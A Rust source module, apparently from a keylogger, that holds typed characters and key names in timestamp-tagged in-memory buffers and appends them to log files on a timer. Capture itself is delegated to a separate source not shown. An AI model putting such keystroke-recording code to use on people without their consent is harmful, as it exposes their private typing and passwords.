//! Dual in-memory keylog buffers with inline timestamp tags.
//!
//! The literal buffer holds typed text; the key buffer holds `"; "`
//! separated key names. Both are append-only until flushed to their log
//! files, after which they start over empty.

use crate::capture::CaptureSource;
use crate::codec::{push_tag, TAG_CLOSE, TAG_OPEN};
use crate::config::KeylogConfig;
use crate::schedule::Scheduler;
use anyhow::{Context, Result};
use std::fs::OpenOptions;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, MutexGuard, PoisonError, Weak};
use std::time::{Duration, SystemTime, UNIX_EPOCH};
use tracing::{debug, warn};

pub const BACKSPACE: char = '\u{8}';
pub const BACKSPACE_PLACEHOLDER: &str = "[Backspace]";
pub const KEY_SEPARATOR: &str = "; ";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BufferEvent {
    TextTyped,
    KeyPressed,
    Flushed,
}

/// Receives buffer notifications synchronously, outside the buffer lock.
pub type EventSink = Arc<dyn Fn(BufferEvent) + Send + Sync>;

pub fn ignore_events() -> EventSink {
    Arc::new(|_| {})
}

struct Buffers {
    text: String,
    keys: String,
    text_len_at_tag: usize,
    keys_len_at_tag: usize,
}

struct Shared {
    buffers: Mutex<Buffers>,
    text_log_path: Option<PathBuf>,
    key_log_path: Option<PathBuf>,
    tag_interval: Duration,
    flush_interval: Duration,
    enabled: AtomicBool,
    sink: EventSink,
    scheduler: Mutex<Option<Scheduler>>,
    source: Mutex<Option<Box<dyn CaptureSource>>>,
}

/// Cheap to clone; all clones share the same buffers.
#[derive(Clone)]
pub struct EventBuffer {
    shared: Arc<Shared>,
}

/// Non-owning handle held by background threads.
#[derive(Clone)]
pub struct WeakEventBuffer {
    shared: Weak<Shared>,
}

impl WeakEventBuffer {
    pub fn upgrade(&self) -> Option<EventBuffer> {
        self.shared.upgrade().map(|shared| EventBuffer { shared })
    }
}

impl EventBuffer {
    pub fn new(config: &KeylogConfig, sink: EventSink) -> Self {
        Self::starting_at(config, sink, now_wall_ms())
    }

    /// Builds the buffers with their opening tag stamped at `start_ms`.
    pub fn starting_at(config: &KeylogConfig, sink: EventSink, start_ms: i64) -> Self {
        let mut text = String::new();
        let mut keys = String::new();
        push_tag(&mut text, start_ms);
        push_tag(&mut keys, start_ms);
        let buffers = Buffers {
            text_len_at_tag: text.len(),
            keys_len_at_tag: keys.len(),
            text,
            keys,
        };
        Self {
            shared: Arc::new(Shared {
                buffers: Mutex::new(buffers),
                text_log_path: config.text_log_path.clone(),
                key_log_path: config.key_log_path.clone(),
                tag_interval: config.tag_interval(),
                flush_interval: config.flush_interval(),
                enabled: AtomicBool::new(false),
                sink,
                scheduler: Mutex::new(None),
                source: Mutex::new(None),
            }),
        }
    }

    pub fn downgrade(&self) -> WeakEventBuffer {
        WeakEventBuffer {
            shared: Arc::downgrade(&self.shared),
        }
    }

    /// Registers a capture source and keeps it until [`EventBuffer::destroy`].
    pub fn attach(&self, mut source: Box<dyn CaptureSource>) -> Result<()> {
        let previous = lock(&self.shared.source).take();
        if let Some(mut previous) = previous {
            previous.unregister();
        }
        source
            .register(self.clone())
            .context("Failed to register capture source")?;
        *lock(&self.shared.source) = Some(source);
        Ok(())
    }

    pub fn is_enabled(&self) -> bool {
        self.shared.enabled.load(Ordering::SeqCst)
    }

    pub fn set_enabled(&self, enabled: bool) {
        let was_enabled = self.shared.enabled.swap(enabled, Ordering::SeqCst);
        if enabled {
            if !was_enabled {
                self.start_timers();
            }
            return;
        }
        self.stop_timers();
        if !was_enabled {
            return;
        }
        if let Err(err) = self.flush() {
            warn!(error = %format!("{err:#}"), "flush on disable failed");
        }
    }

    /// Appends a typed char; backspace becomes a placeholder since the
    /// buffer never erases. Tag sentinels are dropped.
    pub fn append_literal(&self, c: char) {
        if !self.is_enabled() || is_sentinel(c) {
            return;
        }
        {
            let mut buffers = self.lock_buffers();
            if c == BACKSPACE {
                buffers.text.push_str(BACKSPACE_PLACEHOLDER);
            } else {
                buffers.text.push(c);
            }
        }
        (self.shared.sink)(BufferEvent::TextTyped);
    }

    pub fn append_key_name(&self, name: &str) {
        if !self.is_enabled() {
            return;
        }
        {
            let mut buffers = self.lock_buffers();
            buffers.keys.extend(name.chars().filter(|c| !is_sentinel(*c)));
            buffers.keys.push_str(KEY_SEPARATOR);
        }
        (self.shared.sink)(BufferEvent::KeyPressed);
    }

    pub fn tag_tick(&self) {
        self.tag_tick_at(now_wall_ms());
    }

    /// Tags each buffer that grew since its previous tag or flush.
    pub fn tag_tick_at(&self, now_ms: i64) {
        let mut buffers = self.lock_buffers();
        let buffers = &mut *buffers;
        if buffers.text.len() > buffers.text_len_at_tag {
            push_tag(&mut buffers.text, now_ms);
            buffers.text_len_at_tag = buffers.text.len();
        }
        if buffers.keys.len() > buffers.keys_len_at_tag {
            push_tag(&mut buffers.keys, now_ms);
            buffers.keys_len_at_tag = buffers.keys.len();
        }
    }

    /// Appends both buffers to their log files and clears them. A buffer
    /// without a configured file is cleared unwritten; a buffer whose write
    /// failed keeps its content.
    pub fn flush(&self) -> Result<()> {
        let result = {
            let mut buffers = self.lock_buffers();
            let buffers = &mut *buffers;
            let text = write_and_clear(self.shared.text_log_path.as_deref(), &mut buffers.text);
            if text.is_ok() {
                buffers.text_len_at_tag = 0;
            }
            let keys = write_and_clear(self.shared.key_log_path.as_deref(), &mut buffers.keys);
            if keys.is_ok() {
                buffers.keys_len_at_tag = 0;
            }
            text.and(keys)
        };
        if result.is_ok() {
            (self.shared.sink)(BufferEvent::Flushed);
        }
        result
    }

    /// Releases the capture source and stops both timers. Unflushed content
    /// stays in memory; flush first if it should reach disk.
    pub fn destroy(&self) {
        let source = lock(&self.shared.source).take();
        if let Some(mut source) = source {
            source.unregister();
        }
        self.stop_timers();
        debug!("keylog buffer destroyed");
    }

    pub fn literal_text(&self) -> String {
        self.lock_buffers().text.clone()
    }

    pub fn key_text(&self) -> String {
        self.lock_buffers().keys.clone()
    }

    fn start_timers(&self) {
        // Held across the spawn so a tick that disables us waits for the slot.
        let mut slot = lock(&self.shared.scheduler);
        let scheduler = Scheduler::start(
            self.downgrade(),
            self.shared.tag_interval,
            self.shared.flush_interval,
        );
        let previous = match scheduler {
            Ok(scheduler) => slot.replace(scheduler),
            Err(err) => {
                warn!(error = %format!("{err:#}"), "keylog timers not started");
                None
            }
        };
        drop(slot);
        if let Some(previous) = previous {
            previous.stop();
        }
    }

    fn stop_timers(&self) {
        let scheduler = lock(&self.shared.scheduler).take();
        if let Some(scheduler) = scheduler {
            scheduler.stop();
        }
    }

    fn lock_buffers(&self) -> MutexGuard<'_, Buffers> {
        lock(&self.shared.buffers)
    }
}

fn is_sentinel(c: char) -> bool {
    c == TAG_OPEN || c == TAG_CLOSE
}

fn lock<T>(mutex: &Mutex<T>) -> MutexGuard<'_, T> {
    mutex.lock().unwrap_or_else(PoisonError::into_inner)
}

fn write_and_clear(path: Option<&Path>, buffer: &mut String) -> Result<()> {
    if buffer.is_empty() {
        return Ok(());
    }
    if let Some(path) = path {
        let mut file = OpenOptions::new()
            .create(true)
            .append(true)
            .open(path)
            .with_context(|| format!("Failed to open log file {}", path.display()))?;
        file.write_all(buffer.as_bytes())
            .with_context(|| format!("Failed to append to log file {}", path.display()))?;
    }
    buffer.clear();
    Ok(())
}

pub fn now_wall_ms() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|duration| duration.as_millis() as i64)
        .unwrap_or(0)
}
